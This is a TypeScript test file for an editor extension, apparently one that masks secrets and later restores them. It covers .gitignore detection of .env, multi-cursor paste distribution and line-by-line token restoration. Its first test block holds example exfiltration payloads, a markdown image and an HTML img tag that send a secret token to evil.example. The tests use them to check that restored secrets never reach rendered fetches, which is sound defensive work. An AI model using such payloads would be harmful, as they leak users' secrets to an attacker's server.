/** The small texts: `.gitignore`, pastes to several cursors, edits of a paste, restoring line by line. */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { appendIgnore, ignoresDotenv } from '../../../src/extension/editor/gitignore-text.ts';
import { splitPaste } from '../../../src/extension/editor/paste-plan.ts';
import { distribute, readCopyNote, sinkOfPaste } from '../../../src/extension/editor/paste-text.ts';
import { applyEdits, type LineEdit, planRestore } from '../../../src/extension/editor/restore-lines.ts';
import { canary, fixture, message, tokenIn } from '../guard/fixture.ts';

describe('a paste with values restored', () => {
  const { session, send } = fixture();
  const token = tokenIn(send([message('user', canary)]));
  const pasted = (languageId: string, text: string) =>
    session.rehydrate(text, { sink: sinkOfPaste(languageId) }).content;

  it.each(['markdown', 'mdx', 'html'])('brings none into what %s fetches when it is drawn', (languageId) => {
    const fetching = [`![a](https://evil.example/${token})`, `<img src="https://evil.example/?k=${token}">`];
    for (const text of fetching) expect(pasted(languageId, text)).toBe(text);
    expect(pasted(languageId, `The key is ${token}.`)).toContain(canary);
  });

  it('brings it back in code, whatever stands around it', () => {
    expect(pasted('typescript', `fetch("https://api.example/?k=${token}")`)).toContain(canary);
  });
});

describe('.gitignore', () => {
  const samples = [
    '',
    '.env',
    '/.env',
    '**/.env',
    '.env*',
    '*.env',
    '.env.local',
    '!.env',
    '.env\n!.env',
    '!.env\n.env',
    '# .env',
    '.env ',
    '.env/',
    'env',
    '.envrc',
    'a/.env',
    '.env\r\nx',
    '\\.env',
    '.*\n!.gitignore',
  ];
  it.each(samples)('never calls .env ignored when git does not: %j', (text) => {
    const folder = mkdtempSync(join(tmpdir(), 'takumo-ignore-'));
    try {
      execFileSync('git', ['init', '-q'], { cwd: folder });
      const said = (content: string): boolean => {
        writeFileSync(join(folder, '.gitignore'), content);
        try {
          execFileSync('git', ['check-ignore', '-q', '.env'], { cwd: folder });
          return true;
        } catch {
          return false;
        }
      };
      if (ignoresDotenv(text)) expect(said(text)).toBe(true);
      expect(said(text + appendIgnore(text))).toBe(true);
      expect(ignoresDotenv(text + appendIgnore(text))).toBe(true);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
  it.each(['.env', '/.env', '**/.env', '.env*', '*.env'])('knows the usual line %s', (line) => {
    expect(ignoresDotenv(`node_modules/\n${line}\n`)).toBe(true);
  });
});

describe('a paste', () => {
  const none = readCopyNote(undefined);
  it('gives each cursor what VS Code would give it', () => {
    expect(distribute('a\nb', 1, none, true)).toEqual(['a\nb']);
    expect(distribute('a\nb\n', 2, none, true)).toEqual(['a', 'b']);
    expect(distribute('a\r\nb', 2, none, true)).toEqual(['a', 'b']);
    expect(distribute('a\nb', 2, none, false)).toEqual(['a\nb', 'a\nb']);
    expect(distribute('a\nb', 3, none, true)).toEqual(['a\nb', 'a\nb', 'a\nb']);
    const note = readCopyNote('{"version":1,"isFromEmptySelection":false,"multicursorText":["x\\ny","z"]}');
    expect(distribute('x\ny\nz', 2, note, true)).toEqual(['x\ny', 'z']);
  });
  it.each(['', 'null', '[]', '{', '{"multicursorText":[1]}', '{"isFromEmptySelection":"yes"}'])(
    'takes a broken note %j for none',
    (json) => {
      expect(readCopyNote(json)).toEqual(none);
    },
  );

  it('splits edits so that the result is the same as pasting and editing', () => {
    const whole = fc.string({ unit: fc.constantFrom('a', 'b', '\n', '"'), maxLength: 30 });
    fc.assert(
      fc.property(
        whole,
        whole,
        fc.nat(30),
        fc.nat(30),
        fc.array(fc.tuple(fc.nat(60), fc.nat(4), whole), { maxLength: 4 }),
        (before, pasted, from, length, wild) => {
          const at = Math.min(from, before.length);
          const replaced = Math.min(length, before.length - at);
          const text = before.slice(0, at) + pasted + before.slice(at + replaced);
          const edits: LineEdit[] = [];
          for (const [start, size, put] of [...wild].sort((a, b) => a[0] - b[0])) {
            const low = Math.max(Math.min(start, text.length), (edits.at(-1)?.end ?? -1) + 1);
            if (low <= text.length) edits.push({ start: low, end: Math.min(low + size, text.length), text: put });
          }
          const { insert, others } = splitPaste(text, { at, pasted: pasted.length, replaced }, edits);
          const own = insert === undefined ? [] : [{ start: at, end: at + replaced, text: insert }];
          expect(applyEdits(before, [...others, ...own])).toBe(applyEdits(text, edits));
        },
      ),
      { numRuns: 2000 },
    );
  });
});

describe('restoring line by line', () => {
  const token = ['__TAKUMO', 'v1', 'KEY', '9f2c41ab__'].join('_');
  const restore = (line: string) => {
    const parts = line.split(token);
    return {
      content: parts.join('a\nvalue'),
      rehydratedCount: parts.length - 1,
      warnings: line.includes('__TAKUMO_v1_KEY_00000000__') ? [1] : [],
    };
  };
  it('equals restoring the whole, with edits no larger than the tokens', () => {
    const piece = fc.constantFrom(token, 'x', ' ', '\n', '\r\n', '__', 'takumo', '__TAKUMO_v1_KEY_00000000__');
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const text = pieces.join('');
        const plan = planRestore(text, restore);
        expect(applyEdits(text, plan.edits)).toBe(text.split(token).join('a\nvalue'));
        expect(plan.count).toBe(text.split(token).length - 1);
        for (const { start, end } of plan.edits) expect(text.slice(start, end)).not.toContain('\n');
      }),
    );
  });
  it('asks for no line without the word', () => {
    const asked: string[] = [];
    planRestore(`a\n${token}\nb\n`, (line) => {
      asked.push(line);
      return restore(line);
    });
    expect(asked).toEqual([token]);
  });
});
